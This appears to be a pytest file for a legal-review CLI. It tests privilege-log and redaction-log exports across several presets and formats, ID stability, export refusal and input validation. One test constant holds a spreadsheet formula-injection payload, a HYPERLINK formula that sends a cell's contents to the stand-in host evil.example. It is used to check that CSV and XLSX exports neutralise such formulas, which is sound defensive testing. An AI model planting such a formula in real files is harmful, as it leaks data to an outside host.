"""``reviewer privilege / privlog / people / redact`` and the privilege- and redaction-log
exports: every preset in every format, read back."""

from __future__ import annotations

import csv
import json
import shutil
import unicodedata
from pathlib import Path

import docx
import openpyxl
import pytest
from click.testing import CliRunner, Result

from reviewer.cli import main
from reviewer.core.pdf import pdf_text

OPP = "cacd-646349"
ROGS = "cand-349925"
BERK = "cod-berkshire"
HYPER = '=HYPERLINK("http://evil.example/?q="&A1,"advice") e-mail seeking legal advice'


def run(*args: object) -> Result:
    return CliRunner().invoke(main, [str(a) for a in args])


@pytest.fixture
def mp(priv_source: Path, tmp_path: Path) -> Path:
    dest = tmp_path / "Priv.matter"
    shutil.copytree(priv_source, dest, ignore=shutil.ignore_patterns("matter.lock"))
    for args in (
        ("people", "add", dest, "Powell, James", "--attorney", "--org", "Infineon",
         "--alias", "JPOWELL2"),
        ("people", "add", dest, "Jane Roe", "--org", "Infineon"),
        ("privlog", "settings", dest, "--party", "Infineon Technologies AG",
         "--client-org", "Infineon", "--case-no", "2:16-cv-02859-CAS",
         "--court", "United States District Court, Central District of California"),
        ("privilege", "set", dest, OPP, "--status", "withheld", "--basis",
         "attorney-client,work-product", "--recipients", "Jane Roe", "--doc-type", "E-mail",
         "--description", HYPER, "--category", "Clawback advice"),
        ("privilege", "set", dest, ROGS, "--status", "redacted", "--basis", "attorney-client",
         "--author", "James Powell", "--recipients", "Jane Roe", "--doc-type", "Memo",
         "--description", "Counsel's notes on draft interrogatory responses",
         "--category", "Clawback advice"),
        ("redact", "add", dest, ROGS, "--page", "2", "--type", "privileged", "--basis", "ac",
         "--reason", "counsel's notes"),
        ("redact", "add", dest, ROGS, "--page", "3", "--type", "ssn", "--rect", "72,100,200,114"),
    ):  # fmt: skip
        result = run(*args)
        assert result.exit_code == 0, result.output
    return dest


@pytest.fixture(scope="session")
def priv_source(corpus: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    from tests.core.test_privilege import FILES

    path = tmp_path_factory.mktemp("clipriv") / "Priv.matter"
    assert run("init", path, "--name", "MACOM v. Infineon").exit_code == 0
    assert run("import", path, *[corpus / f for f in FILES], "--workers", "1").exit_code == 0
    return path


def read_back(path: Path, fmt: str) -> list[list[str]]:
    """The table as rows of cell texts (PDF: the page text, one row)."""
    if fmt == "csv":
        with path.open(encoding="utf-8", newline="") as f:
            return list(csv.reader(f))
    if fmt == "xlsx":
        ws = openpyxl.load_workbook(path).active
        return [[str(c.value or "") for c in row] for row in ws.iter_rows()]
    if fmt == "docx":
        d = docx.Document(str(path))
        head = [[p.text] for p in d.paragraphs]
        return head + [[c.text for c in r.cells] for t in d.tables for r in t.rows]
    text = unicodedata.normalize("NFKC", " ".join(pdf_text(path)))  # ligatures: ﬁ -> fi
    return [[" ".join(text.split())]]


FIRST_COLUMN = {"frcp": "Entry", "sedona": "Entry", "ninth-circuit": "Entry",
                "sdny-categorical": "Category"}  # fmt: skip


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "docx", "pdf"])
@pytest.mark.parametrize("preset", list(FIRST_COLUMN))
def test_every_preset_in_every_format(mp: Path, tmp_path: Path, preset: str, fmt: str) -> None:
    out = tmp_path / f"log.{fmt}"
    result = run("export", "privilege-log", mp, "--preset", preset, "--format", fmt, "-o", out)
    assert result.exit_code == 0, result.output
    table = read_back(out, fmt)
    flat = "\n".join("\t".join(r) for r in table)
    if fmt == "pdf":
        text = flat.replace("- ", "-")
        for needle in ("Infineon Technologies AG", "2:16-cv-02859-CAS", "PRIV-0001",
                       "Central District of California", "PRIV-0002"):  # fmt: skip
            assert needle in text
        assert "Colorado" not in text
        return
    header = next(r for r in table if r and r[0] == FIRST_COLUMN[preset])
    body = table[table.index(header) + 1 :]
    if preset == "sdny-categorical":
        # same category, different privilege claimed (withheld vs redacted): two groups
        assert [r[:2] for r in body[:2]] == [["Clawback advice", "PRIV-0001"],
                                             ["Clawback advice", "PRIV-0002"]]  # fmt: skip
    else:
        assert [r[0] for r in body[:2]] == ["PRIV-0001", "PRIV-0002"]
    if fmt in ("xlsx", "docx"):
        assert "Producing party: Infineon Technologies AG" in flat
        assert "Case No. 2:16-cv-02859-CAS" in flat
    assert ("Powell*" in flat) == (preset in ("frcp", "sedona"))
    # DOCX leaves out optional columns empty on every row (no one is copied); CSV/XLSX keep them
    assert ("BCC" in header) == (fmt != "docx" and preset in ("frcp", "sedona"))
    assert ("Powell, Esq." in flat) == (preset in ("ninth-circuit", "sdny-categorical"))


def test_frcp_csv_contract_and_formula_neutralisation(mp: Path, tmp_path: Path) -> None:
    out = tmp_path / "log.csv"
    assert run("export", "privilege-log", mp, "--format", "csv", "-o", out).exit_code == 0
    raw = out.read_bytes()
    raw.decode("utf-8")
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    for col in ("Entry", "Date", "Document Type", "Author", "Recipients", "Privilege",
                "Description"):  # fmt: skip
        assert col in rows[0]
    assert len(rows) == 2
    assert rows[0]["Description"] == "'" + HYPER
    assert rows[1]["Author"] == "James Powell*"
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_xlsx_keeps_a_formula_as_text_and_is_laid_out_for_print(mp: Path, tmp_path: Path) -> None:
    out = tmp_path / "log.xlsx"
    assert run("export", "privilege-log", mp, "-o", out).exit_code == 0
    ws = openpyxl.load_workbook(out).active
    cell = next(c for row in ws.iter_rows() for c in row if str(c.value).startswith("=HYPER"))
    assert cell.data_type == "s"
    header = next(r for r in ws.iter_rows() if r[0].value == "Entry")[0].row
    assert ws.freeze_panes == f"A{header + 1}"
    assert ws.page_setup.orientation == "landscape"
    assert str(ws.print_title_rows) == f"${header}:${header}"
    assert ws.column_dimensions["K"].width == 40
    assert cell.alignment.wrap_text


def test_ids_stay_put_when_entries_are_added(mp: Path, tmp_path: Path) -> None:
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    assert run("export", "privilege-log", mp, "-o", first).exit_code == 0
    before = {r["Entry"]: r["Control No."] for r in csv.DictReader(first.open())}
    assert run("privilege", "set", mp, BERK, "--status", "withheld", "--basis", "wp",
               "--doc-type", "Memo", "--description", "Litigation hold analysis",
               "--recipients", "Jane Roe", "--author", "Jane Roe").exit_code == 0  # fmt: skip
    assert run("privilege", "clear", mp, OPP).exit_code == 0
    assert run("export", "privilege-log", mp, "-o", second).exit_code == 0
    after = {r["Entry"]: r["Control No."] for r in csv.DictReader(second.open())}
    assert after["PRIV-0002"] == before["PRIV-0002"]
    assert "PRIV-0001" not in after
    assert after["PRIV-0003"].startswith("cod-berkshire")


def test_check_exit_codes_and_export_refusal(mp: Path, tmp_path: Path) -> None:
    ok = run("privlog", "check", mp, "--json")
    assert ok.exit_code == 0, ok.output
    assert json.loads(ok.output)["errors"] == 0
    assert run("privilege", "set", mp, BERK, "--status", "withheld", "--basis", "ac",
               "--description", "", "--no-suggest").exit_code == 0  # fmt: skip
    bad = run("privlog", "check", mp, "--json")
    assert bad.exit_code == 1
    report = json.loads(bad.output)
    assert {f["rule"] for f in report["findings"] if f["level"] == "error"} == {"missing"}
    out = tmp_path / "log.xlsx"
    refused = run("export", "privilege-log", mp, "-o", out)
    assert refused.exit_code == 2
    assert "PRIV-0003: no date, document type, author, description." in refused.output
    assert not out.exists()
    forced = run("export", "privilege-log", mp, "-o", out, "--force")
    assert forced.exit_code == 0
    assert out.exists()


def test_redaction_log(mp: Path, tmp_path: Path) -> None:
    for fmt in ("csv", "xlsx", "docx", "pdf"):
        out = tmp_path / f"red.{fmt}"
        result = run("export", "redaction-log", mp, "--format", fmt, "-o", out)
        assert result.exit_code == 0, result.output
        flat = " ".join(" ".join(r) for r in read_back(out, fmt))
        assert "RED-0001" in flat
        assert "RED-0002" in flat
        assert "Social Security" in flat
    listed = json.loads(run("redact", "list", mp, "--json").output)
    assert [r["rect"] for r in listed] == [None, [72.0, 100.0, 200.0, 114.0]]
    rows = list(csv.DictReader((tmp_path / "red.csv").open(encoding="utf-8")))
    assert [(r["Entry"], r["Basis"]) for r in rows] == [
        ("RED-0001", "Attorney-Client Privilege"), ("RED-0002", "FRCP 5.2")]  # fmt: skip


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("privilege", "set", "{m}", "nope.pdf", "--status", "withheld"), "nope.pdf: no document"),
        (("privilege", "set", "{m}", OPP, "--status", "withheld", "--basis", "spousal"),
         "'spousal': the basis must be"),
        (("privilege", "set", "{m}", OPP, "--status", "withheld", "--date", "9/10/2018"),
         "give the date as YYYY-MM-DD"),
        (("privilege", "set", "{m}", OPP, ROGS, "--status", "withheld", "--para", "3"),
         "--para codes one paragraph"),
        (("redact", "add", "{m}", OPP, "--page", "99", "--type", "ssn"), "page 99 is not within"),
        (("redact", "add", "{m}", OPP, "--page", "1", "--type", "ssn", "--rect", "1,2,3"),
         "'1,2,3': give the box as x0,y0,x1,y1"),
        (("export", "privilege-log", "{m}", "-o", "/no/such/dir/log.csv"), "no such folder"),
    ],
)  # fmt: skip
def test_bad_input_exits_2_and_writes_nothing(
    mp: Path, args: tuple[str, ...], message: str
) -> None:
    before = run("privilege", "list", mp, "--json").output
    result = run(*[a.format(m=mp) for a in args])
    assert result.exit_code == 2
    assert message in result.output
    assert run("privilege", "list", mp, "--json").output == before
